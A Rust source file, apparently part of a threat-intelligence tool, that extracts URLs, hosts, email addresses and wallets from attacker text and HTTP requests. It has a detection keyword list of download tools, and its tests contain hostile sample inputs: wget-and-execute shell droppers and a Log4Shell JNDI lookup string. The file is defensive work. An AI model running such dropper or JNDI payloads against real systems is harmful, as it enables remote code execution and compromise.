//! Any text of an attacker: addresses, keys and wallets wherever they stand in it.

use std::borrow::Cow;

use linkify::{LinkFinder, LinkKind};
use percent_encoding::percent_decode_str;
use vespid_model::ObservableKind;

use super::{Seen, host, key, wallet};

/// The bytes of a text that are looked at; what is longer is data.
const LOOKED_AT: usize = 64 << 10;

/// What stands in a text.
pub(super) fn plain(text: &str, seen: &mut Seen) {
    let text = beginning(text);
    links(text, seen);
    key::find(text, seen);
    wallet::find(text, seen);
}

/// What stands in a part of a request, as sent or with its `%xx` decoded. An address is one to fetch from where something
/// beside it fetches: others are namespaces of documents, places to go on to, and tests of open proxies. Whatever has an
/// `@` in it is no mail address there.
pub(super) fn encoded(text: &str, seen: &mut Seen) {
    request(beginning(text), seen);
    if let Cow::Owned(decoded) = percent_decode_str(beginning(text)).decode_utf8_lossy() {
        request(&decoded.replace('+', " "), seen);
    }
}

fn request(text: &str, seen: &mut Seen) {
    const FETCHES: [&str; 10] =
        ["wget", "curl", "tftp", "ftpget", "jndi:", "fetch", "busybox", "certutil", "powershell", "lwp-"];
    let lower = text.to_ascii_lowercase();
    if FETCHES.iter().any(|word| lower.contains(word)) {
        find(text, &[LinkKind::Url], seen);
    }
    key::find(text, seen);
    wallet::find(text, seen);
}

/// Addresses to fetch from and e-mail addresses.
pub(super) fn links(text: &str, seen: &mut Seen) {
    // Nearly no text has either character.
    if text.contains([':', '@']) && (text.contains("://") || text.contains('@')) {
        find(text, &[LinkKind::Url, LinkKind::Email], seen);
    }
}

fn find(text: &str, kinds: &[LinkKind], seen: &mut Seen) {
    let mut finder = LinkFinder::new();
    finder.kinds(kinds).url_can_be_iri(false);
    for link in finder.links(text) {
        match link.kind() {
            LinkKind::Email => email(link.as_str(), seen),
            _ => host::address(until_shell(link.as_str()), seen),
        }
    }
}

/// In a script an address ends where the shell takes over, whatever a URL may hold.
fn until_shell(address: &str) -> &str {
    let end = address.find([';', '|', '`', '$', '&', '<', '>', '\\', '"', '\'', '(', ')', '{', '}']);
    &address[..end.unwrap_or(address.len())]
}

/// `root@example.org` in `ssh root@example.org` is one in form only, which this cannot tell.
fn email(address: &str, seen: &mut Seen) {
    if let Some((name, domain)) = address.rsplit_once('@')
        && host::is_domain(domain)
    {
        seen.add(ObservableKind::EmailAddress, &format!("{name}@{}", domain.to_ascii_lowercase()));
    }
}

fn beginning(text: &str) -> &str {
    let end = (0..=LOOKED_AT.min(text.len())).rev().find(|end| text.is_char_boundary(*end));
    &text[..end.unwrap_or(0)]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<String> {
        shown(encoded, text)
    }

    fn shown(look: fn(&str, &mut Seen), text: &str) -> Vec<String> {
        let mut seen = Seen::default();
        look(text, &mut seen);
        seen.into_vec().iter().map(|it| format!("{} {}", it.kind(), it.value())).collect()
    }

    #[test]
    fn addresses_end_where_a_script_goes_on() {
        assert_eq!(
            found("a=1;wget http://192.0.2.7/x.sh;chmod 777 x.sh|sh"),
            ["url http://192.0.2.7/x.sh", "host 192.0.2.7"]
        );
        assert_eq!(
            shown(plain, "urlopen('HTTPS://Example.ORG:443/a?b=c#d')"),
            ["url https://example.org/a?b=c", "host example.org"]
        );
        assert_eq!(
            found("${jndi:ldap://203.0.113.5:1389/a}"),
            ["url ldap://203.0.113.5:1389/a", "host 203.0.113.5"]
        );
    }

    #[test]
    fn what_a_request_encodes_is_decoded_once() {
        assert_eq!(
            found("/shell?cd+/tmp;wget+http%3A%2F%2F192.0.2.9%2Fmips+-O-"),
            ["url http://192.0.2.9/mips", "host 192.0.2.9"]
        );
        assert!(found("%2568ttp%253A%252F%252F192.0.2.9%252Fa").is_empty());
    }

    #[test]
    fn the_last_character_counts() {
        assert_eq!(found("wget http://192.0.2.77"), ["url http://192.0.2.77/", "host 192.0.2.77"]);
        assert_eq!(found("curl%20http%3A%2F%2F192.0.2.77"), ["url http://192.0.2.77/", "host 192.0.2.77"]);
        let wallet = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4";
        assert_eq!(found(&format!("pay {wallet}")), [format!("wallet {wallet}")]);
    }

    #[test]
    fn what_a_request_only_names_is_not_fetched() {
        assert!(found("/?redirect=http://www.example.org/").is_empty());
        assert!(found("<a xmlns='http://schemas.example.org/soap/'/>").is_empty());
    }

    #[test]
    fn mail_addresses() {
        assert_eq!(shown(plain, "send 1 BTC, mail Bob@Example.ORG now"), ["email_address Bob@example.org"]);
        assert!(shown(plain, "ssh-rsa AAAA root@localhost").is_empty());
        assert!(shown(plain, "sip:1001@192.0.2.7").is_empty());
        assert!(found("REGISTER 1001@sip.example.org").is_empty(), "who is called is no sender");
    }

    #[test]
    fn long_text_is_cut_at_a_character() {
        assert!(found(&"é".repeat(LOOKED_AT)).is_empty());
    }
}
